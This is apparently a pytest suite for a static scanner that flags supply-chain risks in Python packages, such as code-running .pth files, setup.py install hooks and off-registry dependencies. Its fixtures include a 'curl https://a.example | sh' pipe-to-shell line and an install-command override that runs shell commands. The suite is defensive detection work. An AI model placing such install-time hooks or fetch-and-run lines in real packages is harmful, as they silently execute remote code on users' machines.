"""What Python packages and projects say of installation, start and origin."""

import pytest

from clearance.observe.static.supply import bundled, dependencies, supply_facts


def facts(path, text, kind=None):
    return tuple(fact for fact in supply_facts(path, text.encode()) if kind in (None, fact.kind))


@pytest.mark.parametrize(
    "path",
    [
        "site-packages/x.pth",
        "root/site-packages/x.pth",
        "x.pth",
        "x-1.0.whl!/x.pth",
        "x-1.data/purelib/x.pth",
        "a/site-packages/X.PTH",
    ],
)
def test_a_path_file_that_runs_code_is_a_fact(path):
    text = "/some/folder\n# import no\nimport os;os.system('id')\n  import not_run\nimport\tb\n"
    (fact,) = facts(path, text)
    assert fact.kind == "pth-file"
    assert fact.text == "import os;os.system('id')\nimport\tb"


@pytest.mark.parametrize("text", ["/some/folder\n../other\n", "", "# import x\n", "importlib\n"])
def test_a_path_file_that_adds_folders_is_none(text):
    assert facts("site-packages/x.pth", text) == ()


def test_a_file_of_that_name_within_a_package_is_none():
    assert facts("site-packages/model/weights.pth", "import os\n") == ()
    assert facts("site-packages/tool/sitecustomize.py", "x = 1") == ()


@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py", "sitecustomize.cpython-311.pyc"])
def test_what_every_start_imports_is_a_fact(name):
    (fact,) = facts(f"site-packages/{name}", "print('hello')")
    assert fact.kind == "sitecustomize"


SETUP = """
import os, subprocess
from setuptools import setup
from setuptools.command.install import install

class After(install):
    def run(self):
        install.run(self)
        subprocess.run(["sh", "-c", "id"])

os.system("curl https://a.example | sh")
setup(name="x", cmdclass={"install": After})
"""


def test_a_setup_that_does_more_shows_the_lines():
    (fact,) = facts("x-1.0/setup.py", SETUP)
    assert (fact.kind, fact.subject) == ("install-script", "x-1.0")
    assert '11: os.system("curl https://a.example | sh")' in fact.text
    assert "9: subprocess.run" in fact.text
    assert "12: setup(name=" in fact.text


@pytest.mark.parametrize(
    "text",
    [
        "from setuptools import setup\nsetup()",
        "from setuptools import setup, find_packages\nsetup(name='x', long_description=open('README.md').read(), packages=find_packages())",
    ],
)
def test_a_setup_that_describes_is_none(text):
    assert facts("x-1.0/setup.py", text) == ()


@pytest.mark.parametrize("text", ["def (", "x = \0", "print 'two'", "(" * 3000, "-" * 100_000 + "1"])
def test_a_setup_that_is_no_python_is_a_fact(text):
    (fact,) = facts("x-1.0/setup.py", text)
    assert "cannot be read as Python" in fact.detail


def test_a_setup_that_is_installed_runs_no_more():
    assert facts("site-packages/numpy/setup.py", SETUP) == ()


def test_requirements_show_indexes_and_addresses():
    text = """
# a comment
requests>=2 ; python_version > "3.8"
odd @ https://a.example/odd.whl
-e git+https://a.example/x.git#egg=x
https://a.example/y.tar.gz
--extra-index-url https://b.example/simple
--index-url=https://pypi.org/simple
long==1 \\
  --hash=sha256:abc
???
"""
    found = facts("requirements-dev.txt", text)
    assert [(f.kind, f.subject, f.detail) for f in found] == [
        ("dependency-elsewhere", "odd", "https://a.example/odd.whl"),
        ("dependency-elsewhere", "x", "git+https://a.example/x.git#egg=x"),
        ("dependency-elsewhere", "https://a.example/y.tar.gz", "https://a.example/y.tar.gz"),
        ("registry", "--extra-index-url", "https://b.example/simple"),
    ]
    wanted = dependencies("requirements-dev.txt", text.encode())
    assert [(d.name, d.wanted) for d in wanted] == [
        ("requests", ">=2"),
        ("odd", "https://a.example/odd.whl"),
        ("long", "==1"),
    ]


def test_a_project_shows_what_it_wants_and_how_it_is_built():
    text = """
[project]
name = "x"
dependencies = ["a>=1", "b @ git+https://a.example/b"]
[project.optional-dependencies]
more = ["c"]
[build-system]
requires = ["setuptools"]
build-backend = "own"
backend-path = ["tools"]
[tool.uv.sources]
a = { path = "../a" }
[tool.poetry.dependencies]
python = "^3.11"
d = { git = "https://a.example/d.git" }
e = "^1"
"""
    found = facts("x/pyproject.toml", text)
    assert [(f.kind, f.subject, f.detail) for f in found] == [
        ("dependency-elsewhere", "b", "git+https://a.example/b"),
        ("dependency-elsewhere", "d", "https://a.example/d.git"),
        ("dependency-elsewhere", "a", "file:../a"),
        ("install-script", "x", "build-backend: own from the package's own tools"),
    ]
    kinds = {d.name: d.kind for d in dependencies("x/pyproject.toml", text.encode())}
    assert kinds == {
        "a": "runtime",
        "b": "runtime",
        "c": "optional",
        "setuptools": "build",
        "d": "runtime",
        "e": "runtime",
    }


def test_a_configuration_of_setuptools_is_read():
    text = "[options]\ninstall_requires =\n  a>=1\n  b\n[options.extras_require]\nx = c\n"
    assert [(d.name, d.kind) for d in dependencies("setup.cfg", text.encode())] == [
        ("a", "runtime"),
        ("b", "runtime"),
        ("c", "optional"),
    ]
    assert dependencies("setup.cfg", b"no section = 1\n[") == ()


METADATA = """Metadata-Version: 2.4
Name: Odd.Tool
Version: 1.0
License-Expression: MIT
Requires-Dist: a>=1
Requires-Dist: b; extra == "more"
Requires-Dist: c @ https://a.example/c.whl

Name: Not-this
"""


def test_metadata_names_the_package_and_what_it_wants():
    path = "site-packages/odd_tool-1.0.dist-info/METADATA"
    (package,) = bundled(path, METADATA.encode())
    assert (package.name, package.version, package.ecosystem, package.licence) == ("Odd.Tool", "1.0", "PyPI", "MIT")
    assert [(d.name, d.kind) for d in dependencies(path, METADATA.encode())] == [
        ("a", "runtime"),
        ("b", "optional"),
        ("c", "runtime"),
    ]
    assert [(f.kind, f.subject) for f in facts(path, METADATA)] == [("dependency-elsewhere", "c")]


def test_a_folder_of_another_name_is_a_fact():
    found = facts("site-packages/requests-1.0.dist-info/METADATA", METADATA, "name-mismatch")
    assert found[0].detail == "installed as requests, calls itself Odd.Tool"


def test_where_a_package_was_installed_from_is_a_fact():
    text = '{"url": "https://a.example/x.git", "vcs_info": {"vcs": "git", "commit_id": "abc"}}'
    (fact,) = facts("site-packages/x-1.dist-info/direct_url.json", text)
    assert (fact.kind, fact.detail) == ("dependency-elsewhere", "https://a.example/x.git@abc")


def test_commands_and_points_of_entry_are_facts():
    text = "[console_scripts]\npip = x:main\nx = x:main\n\n[pytest11]\nx = x.plugin\n"
    found = facts("site-packages/x-1.dist-info/entry_points.txt", text)
    assert [(f.kind, f.subject) for f in found] == [("entry-point", "pytest11"), ("shadows-command", "x")]


def test_a_bill_of_materials_inside_is_read():
    text = '{"bomFormat": "CycloneDX", "components": [{"name": "z", "version": "1", "purl": "pkg:cargo/z@1"}, 3, {"name": "l", "version": "2"}]}'
    found = bundled("site-packages/x-1.dist-info/sboms/a.cdx.json", text.encode())
    assert [(p.name, p.version, p.ecosystem) for p in found] == [("z", "1", "crates.io"), ("l", "2", "generic")]
